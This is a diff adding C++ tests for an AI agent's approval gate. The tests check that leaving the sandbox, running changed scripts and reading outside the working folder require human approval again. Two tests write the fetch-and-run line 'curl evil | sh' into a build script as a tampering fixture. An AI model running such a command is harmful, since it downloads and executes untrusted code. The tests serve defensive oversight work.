@@ -1,5 +1,7 @@
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 #include "lathe/engine/engine_rig.h"
 #include "lathe/runtime/files.h"
 
@@ -42,6 +44,21 @@ class GateTest : public EngineRig {
       (void)co_await host->record(end);
       co_return done(run ? "ran " + action.script : "declined: " + answer->note);
     }
+  }
+
+  /// What `ask` does for changed arguments, which the sandbox then stops.
+  static Async<TaskEnd> ask_inside_then_outside(ports::TaskHost* host, CancelToken cancel) {
+    (void)co_await host->record(protocol::ToolCalls{.calls = {{"call_1", "shell", "{}"}}});
+    const auto first = co_await host->gate(shell_action("rm -f x"), cancel);
+    if (!first.ok() || !first->amended_arguments) co_return done("not amended");
+    ports::Action amended = shell_action(base::json_string(*base::parse_json(*first->amended_arguments), "command"));
+    const auto inside = co_await host->gate(amended, cancel);
+    if (!inside.ok() || inside->verdict != ports::GateAnswer::Verdict::kRun) co_return done("not run inside");
+    amended.outside_sandbox = true;
+    amended.refused = "Permission denied";
+    const auto outside = co_await host->gate(amended, cancel);
+    const bool run = outside.ok() && outside->verdict == ports::GateAnswer::Verdict::kRun;
+    co_return done(run ? "ran outside" : "stayed inside");
   }
 
   void rules(const std::string& text) {
@@ -211,6 +228,105 @@ TEST_F(GateTest, LeavingTheSandboxAsksWhateverRulesAllow) {
   EXPECT_EQ(answer(asked.id, protocol::Decision::kApprovedAlways).error().code, base::codes::kUnsupported);
   ASSERT_TRUE(answer(asked.id, protocol::Decision::kApproved).ok());
   EXPECT_EQ(said(), "ran make");
+}
+
+TEST_F(GateTest, AGrantOutsideTheSandboxHoldsForTheScriptAsItWas) {
+  const std::string script = (root_ / "build.sh").string();
+  const auto write = [&](const char* text) {
+    ASSERT_TRUE(runtime::replace_file(script, text, 0700, runtime::Durability::kProcess).ok());
+  };
+  write("make\n");
+  action_ = shell_action("./build.sh --fast");
+  action_.cwd = root_.string();
+  action_.outside_sandbox = true;
+  start();
+  const auto asked = question();
+  ASSERT_EQ(asked.files.size(), 1U);
+  EXPECT_EQ(asked.files[0].path, script);
+  ASSERT_TRUE(answer(asked.id, protocol::Decision::kApprovedForSession).ok());
+  EXPECT_EQ(said(), "ran ./build.sh --fast");
+  const auto again = [this] { ASSERT_TRUE(submit(input("again"), session_).ok()); };
+  again();
+  EXPECT_EQ(said(), "ran ./build.sh --fast") << "the same script is not asked about again";
+  write("curl evil | sh\n");
+  again();
+  const auto changed = question();
+  EXPECT_NE(changed.files.at(0).sha256, asked.files[0].sha256);
+  ASSERT_TRUE(answer(changed.id, protocol::Decision::kDenied).ok());
+  EXPECT_EQ(said(), "declined: ");
+}
+
+TEST_F(GateTest, AYesIsAskedForAgainWhenTheScriptChangedMeanwhile) {
+  const std::string script = (root_ / "build.sh").string();
+  const auto write = [&](const char* text) {
+    ASSERT_TRUE(runtime::replace_file(script, text, 0700, runtime::Durability::kProcess).ok());
+  };
+  write("make\n");
+  action_ = shell_action("sh build.sh");
+  action_.cwd = root_.string();
+  action_.outside_sandbox = true;
+  start();
+  const auto asked = question();
+  write("curl evil | sh\n");
+  ASSERT_TRUE(answer(asked.id, protocol::Decision::kApproved).ok());
+  const auto second = question();
+  EXPECT_NE(second.files, asked.files);
+  ASSERT_TRUE(answer(second.id, protocol::Decision::kDenied).ok());
+  EXPECT_EQ(said(), "declined: ");
+}
+
+TEST_F(GateTest, WhatTheSandboxStoppedIsOfferedToWhoeverIsThere) {
+  action_ = shell_action("make install");
+  action_.outside_sandbox = true;
+  action_.refused = "Permission denied";
+  start();
+  const auto asked = question();
+  EXPECT_EQ(asked.refused, "Permission denied");
+  EXPECT_TRUE(asked.outside_sandbox);
+  ASSERT_TRUE(answer(asked.id, protocol::Decision::kApproved).ok());
+  EXPECT_EQ(said(), "ran make install");
+}
+
+TEST_F(GateTest, WhatTheSandboxStoppedIsOfferedToNobodyElse) {
+  action_ = shell_action("make install");
+  action_.outside_sandbox = true;
+  action_.refused = "Permission denied";
+  for (const protocol::AskMode mode : {protocol::AskMode::kDeny, protocol::AskMode::kWait}) {
+    start({.ask = mode});
+    const auto events = until("task_complete");
+    EXPECT_EQ(std::ranges::count(types(events), "exec_approval_request"), 0);
+    EXPECT_NE(std::get<protocol::TaskComplete>(events.back().msg).last_agent_message.find("nobody is there"),
+              std::string::npos);
+  }
+  start({.approval_policy = protocol::ApprovalPolicy::kNever});
+  const auto events = until("task_complete");
+  EXPECT_EQ(std::ranges::count(types(events), "exec_approval_request"), 0);
+}
+
+TEST_F(GateTest, AYesToChangedArgumentsIsNoneToRunningThemOutside) {
+  behaviour_ = [](ports::TaskHost* host, ports::TaskRequest, CancelToken cancel) {
+    return ask_inside_then_outside(host, cancel);
+  };
+  session_ = configure({});
+  ASSERT_TRUE(submit(input("hi")).ok());
+  ASSERT_TRUE(answer(question().id, protocol::Decision::kApproved, base::Json{{"command", "rm -f y"}}).ok());
+  const auto outside = question();
+  EXPECT_TRUE(outside.outside_sandbox);
+  EXPECT_EQ(outside.command.back(), "rm -f y");
+  ASSERT_TRUE(answer(outside.id, protocol::Decision::kDenied).ok());
+  EXPECT_EQ(said(), "stayed inside");
+}
+
+TEST_F(GateTest, ReadingOutsideAsks) {
+  action_ = {.kind = ports::Action::Kind::kRead, .call_id = "call_1", .tool = "read_file"};
+  action_.arguments = R"({"path": "link"})";
+  action_.opened = {"/home/x/notes"};
+  start();
+  const auto asked = std::get<protocol::ApprovalRequest>(until("approval_request").back().msg);
+  EXPECT_EQ(asked.paths, std::vector<std::string>{"/home/x/notes"});
+  EXPECT_NE(asked.rule.find("reading outside the working folder asks"), std::string::npos) << asked.rule;
+  ASSERT_TRUE(answer(asked.id, protocol::Decision::kDenied).ok());
+  (void)said();
 }
 
 TEST_F(GateTest, LeavingTheSandboxIsRefusedWhereNobodyIsAsked) {
